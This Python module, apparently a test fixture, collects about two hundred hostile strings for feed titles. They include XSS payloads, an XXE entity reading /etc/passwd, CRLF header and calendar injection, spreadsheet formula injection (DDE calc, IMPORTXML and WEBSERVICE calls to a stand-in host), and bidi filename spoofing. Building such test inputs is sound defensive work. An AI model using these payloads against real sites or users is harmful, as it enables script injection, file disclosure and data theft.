"""Two hundred strings that somebody could write into a title to harm whoever reads a feed."""

from __future__ import annotations

_MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.example/a.js>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--<script>", "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;",
    "&amp;lt;", "<iframe src=javascript:alert(1)>", '<a href="javascript:alert(1)">x</a>', "<base href=//x.example>",
    "<meta http-equiv=refresh content=0;url=//x.example>", "<link rel=stylesheet href=//x.example>", "<object data=x>",
    "<embed src=x>", "<form action=//x.example>", "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>", "<video><source onerror=alert(1)>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=alert(1) `", "{{7*7}}", "{% include 'x' %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E", "＜script＞", "<scr\x00ipt>",
    "<scr\tipt>", "<\nscript>",
)  # fmt: skip
_LINES = (
    "a\r\nSet-Cookie: x=1", "a\nLocation: //x.example", "a\r\n\r\n<html>", "a%0d%0aSet-Cookie:x=1", "a\rX: 1", "a\x0bX: 1",
    "a\x0cX: 1", "a\x85X: 1", "a\u2028X: 1", "a\u2029X: 1", "a\r\nBEGIN:VEVENT", "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x",
    "a\r\nEND:VCALENDAR", "a\nATTACH:file:///etc/passwd", "a\r\n ATTACH:x", "a\r\nORGANIZER:mailto:x@x.example",
    "a\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM", "a\nRRULE:FREQ=SECONDLY", "a;b", "a,b", "a\\nb", "a\\", "a\\;", "a\\,",
    "a\\\\n", 'a"b', "a:b", "a;VALUE=URI:x", "X\r\n\tY", "a\r\n\r\nb", "\r\n", "\n", "\r", "\r\nSUMMARY:other", "a\x1eb\x1fc",
    "a\r\n,b,c\r\n", 'a","b', '"a","b"', "a\tb\tc", "a\r\nDTSTART:20000101",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://x.example","x")', "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\x00=1+1", "\u202e=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=IMPORTXML("http://x.example","//a")',
    '=WEBSERVICE("http://x.example")', "-2+3+cmd|' /C calc'!A0", "@x", "+x", "-", "=", "+", "@", "\u00a0=1+1", "\u3000=1+1",
    ";=1+1", ",=1+1", '"=1+1', "'=1+1", "%0A=1+1", "=\u200b1", "\u200e=1+1",
)  # fmt: skip
_TURNED = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u2068abc\u2069", "\u202aabc", "\u202babc\u202c",
    "abc\u202e", "\u200fשלום", "שלום עולם", "مرحبا بالعالم", "א\u202eב", "\u061cabc", "a\u200bb", "a\u200cb", "a\u200db", "👩‍👩‍👧‍👦",
    "\ufeffabc", "abc\ufeff", "\u2060abc", "\u180eabc", "𝓣𝓲𝓽𝓵𝓮", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\u115f\u1160", "\U000e0001tag", "ﷺ", "ß", "İ", "ı", "ǅ",
)  # fmt: skip
_CONTROLS = (
    *(f"a{chr(code)}b" for code in (0, 1, 2, 3, 4, 7, 8, 0x0E, 0x1B, 0x1C, 0x1D, 0x7F, 0x80, 0x9B, 0x9F)),
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\x08\x08b", "\x00", "\x7f", "\ufffe", "\uffff", "\ufdd0", "a\ufffdb", "\U0001fffe",
    "%00", "\\0", "a" * 5_000, "\n" * 500, "😀" * 300, "夜" * 400, "\t", " ", "",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd", "blob:x", "about:blank",
    "//x.example", "http://", "https://", "http:///x", "https://x.example/\r\nX: 1", 'https://x.example/" onclick="alert(1)',
    "https://x.example/'><script>", "https://x.example/<script>", "https://x.example/?a=1&b=<x>", "https://x.example/#<x>",
    "http://[::1", "https://x.example:99999/", "https://user:pass@x.example/", "https://münchen.example/straße?ü=夜", "mailto:x@x.example",
    "ftp://x.example", "https://x.example/\u202egnp.exe", "https://x.example/\x00", "https://x.example/ a b",
)  # fmt: skip

HOSTILE = _MARKUP + _LINES + _FORMULAS + _TURNED + _CONTROLS + _ADDRESSES
